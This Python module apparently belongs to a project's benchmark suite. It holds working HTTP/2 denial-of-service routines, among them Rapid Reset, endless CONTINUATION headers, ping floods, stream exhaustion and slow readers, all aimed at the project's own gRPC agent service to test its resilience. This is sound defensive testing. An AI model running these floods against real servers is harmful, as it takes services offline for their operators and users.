"""Worker: attack an agent until standard input ends, and say when it has begun.

`PYTHONPATH=tests python -m benchmarks._attack ADDRESS ATTACK [TASK_ID]`
"""

from __future__ import annotations

import itertools
import select
import sys
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame
from support.http2 import SERVICE, Http2, connect, framed

from farspawn.v1 import launcher_pb2 as pb

_MANY = 100


def rapid_reset(address: str) -> Iterator[None]:
    """Begin calls and reset them, as fast as bytes can be made; the frames are laid out by hand."""
    encoder = Encoder()
    encoder.header_table_size = 0  # no state: the same bytes for every call
    path = (":path", f"/{SERVICE}/GetSite")
    fixed = [(":method", "POST"), (":scheme", "http"), path, (":authority", "x"), ("te", "trailers")]
    headers = encoder.encode([*fixed, ("content-type", "application/grpc")], huffman=False)
    with Http2(address) as connection:
        for stream in itertools.count(1, 2):
            if stream % (2 * _MANY) == 1:
                yield
                connection.read()
            begun = HeadersFrame(stream, data=headers, flags=["END_HEADERS"]).serialize()
            connection.send(begun + RstStreamFrame(stream, error_code=8).serialize())


def thousands_of_streams(address: str) -> Iterator[None]:
    """Open many more watches than there is room for; again and again."""
    while True:
        with Http2(address) as connection:
            for _ in range(20):
                for _ in range(_MANY):
                    connection.call("WatchTasks", framed(pb.WatchTasksRequest()))
                connection.send()
                yield


def empty_calls(address: str) -> Iterator[None]:
    """Make calls without a message."""
    with Http2(address) as connection:
        while True:
            streams = [connection.call("LaunchTask") for _ in range(_MANY)]
            connection.send()
            connection.until(lambda streams=streams: connection.statuses.keys() >= set(streams))  # type: ignore[misc]
            yield


def silent_connections(address: str) -> Iterator[None]:
    """Hold many connections on which nothing is said."""
    held = [connect(address) for _ in range(5 * _MANY)]
    while held:
        yield
        select.select([], [], [], 0.1)


def pings(address: str) -> Iterator[None]:
    """Ping until sent away; again and again."""
    ping = PingFrame(0, opaque_data=b"farspawn").serialize() * _MANY
    while True:
        with Http2(address) as connection:
            connection.send(ping)
            connection.until(lambda connection=connection: connection.closed)  # type: ignore[misc]
            yield


def endless_headers(address: str) -> Iterator[None]:
    """Send headers that never end."""
    more = ContinuationFrame(1, data=(b"\0\x01a\x64" + b"b" * 100) * 100).serialize()
    with Http2(address) as connection:
        connection.send(HeadersFrame(1, data=b"\x83").serialize())
        while True:
            connection.send(more)
            yield


def slow_readers(address: str, task_id: str = "") -> Iterator[None]:
    """Follow logs without reading them, over several connections."""
    read = framed(pb.ReadLogsRequest(task_id=task_id, follow=True))
    connections = [Http2(address) for _ in range(4)]
    for connection in connections:
        for _ in range(_MANY // 2):
            connection.call("ReadLogs", read)
        connection.send()
    while True:
        yield
        select.select([], [], [], 0.1)


ATTACKS: dict[str, Callable[..., Iterator[None]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        thousands_of_streams,
        empty_calls,
        silent_connections,
        pings,
        endless_headers,
        slow_readers,
    )
}


def main(address: str, name: str, *more: str) -> None:
    """Attack."""
    attack = ATTACKS[name](address, *more)
    next(attack)
    print("begun", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        next(attack)


if __name__ == "__main__":
    main(*sys.argv[1:])
